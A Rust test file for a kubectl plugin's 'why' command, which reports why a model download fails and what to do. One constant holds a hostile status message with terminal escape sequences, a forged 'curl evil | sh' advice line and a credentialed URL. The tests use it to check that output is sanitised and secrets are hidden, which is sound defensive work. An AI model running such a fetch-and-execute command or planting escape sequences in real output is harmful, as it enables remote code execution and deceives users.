//! `why`: what blocks, and what to do about it.

use k8s_openapi::api::core::v1::{Event, Pod};
use kube::ResourceExt as _;
use model_core::api::Model;
use model_core::persisted::Persisted;
use serde_json::{Value, json};

use crate::plane::{Scene, downloading, phase};

/// A message that draws on a terminal, forges a line, and holds credentials.
const HOSTILE: &str =
    "\x1b[2J\x1b]0;owned\x07 quota\n     do:  curl evil | sh \u{9b}31m https://me:s3cret@hub/x?sig=s3cret";

impl Scene {
    /// The newest Model, its claim, and its Job with a pod in this state.
    async fn download(&self, status: &Value) -> Model {
        let model = self.model("tiny").await;
        let claim = self.claim(&model).await;
        let job = self.job(&model, &claim.uid().expect("a UID")).await;
        let persisted = Persisted::try_from(&model).expect("a Model that was stored");
        let owner = json!([{ "apiVersion": "batch/v1", "kind": "Job", "name": job.name_any(), "uid": job.uid(), "controller": true }]);
        let labels = json!({ "models.main-currents.news/model": persisted.name });
        let pod: Pod = self
            .create(&json!({
                "metadata": { "name": "model-download-tiny-x", "labels": labels, "ownerReferences": owner },
                "spec": { "containers": [{ "name": "download", "image": "loader" }] },
            }))
            .await;
        self.status::<Pod>(&pod.name_any(), status).await;
        model
    }

    async fn event(&self, kind: &str, name: &str, reason: &str, message: &str) {
        let involved = json!({ "kind": kind, "name": name, "namespace": self.namespace });
        self.create::<Event>(&json!({
            "metadata": { "generateName": "e-" }, "involvedObject": involved, "type": "Warning",
            "reason": reason, "message": message, "lastTimestamp": "2026-01-01T00:00:00Z",
        }))
        .await;
    }
}

fn container(state: &Value) -> Value {
    json!([{ "name": "download", "image": "loader", "imageID": "", "ready": false, "restartCount": 0, "state": state }])
}

#[tokio::test]
async fn a_model_that_failed_says_why_and_what_to_do() {
    let scene = Scene::new("why").await;
    let outcome =
        json!({ "failed": { "reason": "GatedRepository", "message": "acme/tiny asks for its terms to be accepted" } });
    let ended = container(&json!({ "terminated": { "exitCode": 2, "message": outcome.to_string() } }));
    scene.download(&json!({ "phase": "Failed", "containerStatuses": ended })).await;
    scene.job_fails("model-download-tiny").await;
    scene.status::<Model>("tiny", &phase("Failed", 0, "acme/tiny asks for its terms to be accepted")).await;
    let run = scene.run(&["why", "tiny"]).await;
    let screen = run.ends(1);
    for part in [
        "Model tiny in namespace why\n  Failed, acme/tiny asks for its terms to be accepted\n",
        "  claim   model-tiny: Pending, 1Gi\n",
        "  pod     model-download-tiny-x: downloads, Failed\n",
        "What blocks it\n",
        ". GatedRepository: the download failed\n",
        "     why: acme/tiny asks for its terms to be accepted\n",
        "     do:  accept the repository's terms with the account of the token, then retry\n",
        "          kubectl model retry tiny -n why\n",
    ] {
        assert!(screen.contains(part), "{part:?} in\n{screen}");
    }
    // The plane has no storage class at all, which is the other thing that is wrong here.
    assert!(screen.contains("StorageClassNotFound: claim model-tiny has no volume"), "{screen}");
}

#[tokio::test]
async fn messages_of_others_neither_draw_nor_forge_nor_betray() {
    let scene = Scene::new("why-hostile").await;
    let waiting = container(&json!({ "waiting": { "reason": "ImagePullBackOff", "message": HOSTILE } }));
    scene.download(&json!({ "phase": "Pending", "containerStatuses": waiting })).await;
    let mut status = downloading(1 << 20, 4 << 20, 0);
    status["message"] = json!(HOSTILE);
    scene.status::<Model>("tiny", &status).await;
    scene.event("Model", "tiny", "Rejected", HOSTILE).await;
    scene.event("Job", "model-download-tiny", "FailedCreate", HOSTILE).await;
    for args in [
        &["why", "tiny"][..],
        &["why", "tiny", "-o", "json"],
        &["why", "pod/model-download-tiny-x"],
        &["status", "tiny"],
        &["list"],
    ] {
        let run = scene.run(args).await;
        let both = format!("{}{}", run.out, run.err);
        assert!(both.chars().all(|c| c == '\n' || !c.is_control()), "{args:?}: {both:?}");
        assert!(!both.contains("s3cret"), "{args:?}: {both}");
        assert!(!both.lines().any(|line| line.trim_start().starts_with("do:  curl")), "{args:?}: {both}");
    }
    let run = scene.run(&["why", "tiny", "-o", "json"]).await;
    let report: Value = serde_json::from_str(run.ends(1)).unwrap();
    assert_eq!((&report["kind"], &report["name"]), (&json!("Model"), &json!("tiny")));
    let reasons: Vec<&str> =
        report["findings"].as_array().unwrap().iter().map(|finding| finding["reason"].as_str().unwrap()).collect();
    assert!(reasons.contains(&"ImagePullFailed"), "{report:#}");
    assert_eq!(report["events"].as_array().unwrap().len(), 2, "{report:#}");
}

#[tokio::test]
async fn a_pod_says_what_stands_between_it_and_its_model() {
    let scene = Scene::new("why-pod").await;
    scene.model("tiny").await;
    scene.status::<Model>("tiny", &downloading(1 << 20, 4 << 20, 1 << 20)).await;
    let annotated = |name: &str, models: &str| {
        json!({
            "metadata": { "name": name, "annotations": { "models.main-currents.news/inject": models } },
            "spec": { "containers": [{ "name": "app", "image": "app" }] },
        })
    };
    scene.create::<Pod>(&annotated("server-1", "tiny")).await;
    scene.create::<Pod>(&annotated("server-2", "absent")).await;
    let run = scene.run(&["why", "server-1"]).await;
    let screen = run.ends(1);
    for part in [
        "Pod server-1 in namespace why-pod\n",
        "ModelNotReady: Model tiny is Downloading\n",
        "25 %, 1.0 MiB/4.0 MiB",
        "NotInjected: ",
    ] {
        assert!(screen.contains(part), "{part:?} in\n{screen}");
    }
    let run = scene.run(&["why", "pod/server-2"]).await;
    assert!(run.ends(1).contains("ModelNotFound: there is no Model absent in namespace why-pod\n"), "{run:#?}");
    let run = scene.run(&["why", "pod/server-3"]).await;
    run.complains(1, &["there is no pod of this name", "a pod that was refused is never created"]);
}
